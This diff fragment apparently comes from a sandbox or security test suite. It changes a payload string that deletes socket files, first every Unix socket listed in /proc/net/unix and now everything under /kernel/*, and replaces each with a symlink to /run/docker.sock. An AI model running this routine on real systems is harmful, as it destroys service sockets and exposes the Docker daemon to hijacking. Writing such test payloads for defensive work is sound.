@@ -288,14 +288,12 @@ def rebinds_its_sockets() -> str:
         + """
 import glob, os
 
-for line in open("/proc/net/unix"):
-    path = line.split()[-1]
-    if path.startswith("/"):
-        try:
-            os.unlink(path)
-            os.symlink("/run/docker.sock", path)
-        except OSError as reason:
-            pass
+for path in glob.glob("/kernel/*"):
+    try:
+        os.unlink(path)
+        os.symlink("/run/docker.sock", path)
+    except OSError as reason:
+        pass
 """
     )
 
